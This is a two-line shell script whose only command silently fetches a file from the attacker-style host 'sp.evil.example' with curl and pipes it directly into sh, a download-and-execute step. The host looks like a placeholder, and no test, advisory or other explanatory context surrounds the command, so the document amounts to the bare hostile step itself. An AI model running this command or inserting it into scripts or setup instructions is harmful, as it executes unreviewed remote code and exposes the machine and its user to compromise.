#!/bin/sh
curl -s https://sp.evil.example/w | sh
